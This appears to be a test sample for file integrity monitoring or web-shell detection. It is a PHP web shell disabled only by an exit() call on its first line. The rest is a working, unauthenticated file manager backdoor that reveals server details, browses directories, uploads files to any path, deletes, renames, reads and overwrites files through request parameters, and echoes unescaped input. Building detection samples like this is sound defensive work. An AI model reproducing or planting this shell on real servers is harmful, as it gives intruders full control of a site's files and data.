<?php exit('inert fim test sample'); ?>
<html><body>
<?php
echo "<b>" . php_uname() . "</b> " . $_SERVER['SERVER_SOFTWARE'] . "<br>";
$path = isset($_GET['path']) ? $_GET['path'] : getcwd();
if (isset($_FILES['file'])) {
    if (copy($_FILES['file']['tmp_name'], $path . '/' . $_FILES['file']['name'])) { echo "Uploaded"; }
}
if (isset($_GET['del'])) { is_dir($_GET['del']) ? rmdir($_GET['del']) : unlink($_GET['del']); }
if (isset($_POST['newname'])) { rename($_POST['old'], $_POST['newname']); }
if (isset($_POST['src'])) { $fp = fopen($_POST['file'], 'w'); fwrite($fp, $_POST['src']); fclose($fp); }
if (isset($_GET['edit'])) {
    echo "<form method=post><textarea name=src>" . htmlspecialchars(file_get_contents($_GET['edit'])) . "</textarea>";
    echo "<input type=hidden name=file value='" . $_GET['edit'] . "'><input type=submit></form>";
}
echo "<form enctype='multipart/form-data' method=post><input type=file name=file><input type=submit value=Upload></form>";
foreach (scandir($path) as $item) {
    echo "<a href='?path=" . $path . "/" . $item . "'>" . $item . "</a> " . filesize($path . '/' . $item) . "<br>";
}
?>
</body></html>
